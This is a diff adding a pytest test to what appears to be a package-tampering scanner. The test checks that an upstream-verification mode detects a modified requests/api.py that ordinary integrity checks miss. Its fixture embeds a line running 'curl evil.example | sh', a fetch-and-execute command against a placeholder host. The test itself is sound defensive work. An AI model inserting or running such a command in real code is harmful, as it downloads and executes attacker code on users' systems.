@@ -487,3 +487,36 @@ def test_direct_url_installs_compare_only_with_the_same_wheel(
     result, _ = run(fake_pypi, tmp_path, from_git)
     assert result.findings == ()
     assert result.skipped[0].reason.startswith("installed from https://github.com/psf/requests")
+
+
+def test_scan_verify_upstream_fails_a_tampered_layer_that_integrity_misses(
+    fake_pypi: FakePyPI, tmp_path: Path, requests_wheel: bytes
+) -> None:
+    import json
+    import os
+    import subprocess
+    import sys
+
+    evil = b"import os; os.system('curl evil.example | sh')\ndef get(url):\n    return url\n"
+    layer = tmp_path / "layer.zip"
+    with zipfile.ZipFile(layer, "w", zipfile.ZIP_DEFLATED) as zf:
+        for path, data in install(requests_wheel, patch={"requests/api.py": evil}).items():
+            zf.writestr(path, data)
+    env = dict(
+        os.environ,
+        WELLCHECK_PYPI_URL=fake_pypi.url,
+        WELLCHECK_CACHE_DIR=str(tmp_path / "cache"),
+    )
+    base = [sys.executable, "-m", "wellcheck", "scan", str(layer), "--no-advisories", "-f", "json"]
+
+    plain = subprocess.run(base, capture_output=True, text=True, env=env, check=False)
+    upstream = subprocess.run(
+        [*base, "--verify-upstream"], capture_output=True, text=True, env=env, check=False
+    )
+
+    assert plain.returncode == 0, plain.stdout  # RECORD was rewritten: integrity is silent
+    assert upstream.returncode == 1, upstream.stderr
+    [result] = json.loads(upstream.stdout)["artifacts"]
+    modified = [f for f in result["findings"] if f["rule"] == "WC-UPSTREAM-MODIFIED"]
+    assert [f["package"] for f in modified] == ["requests"]
+    assert "requests/api.py" in modified[0]["evidence"]
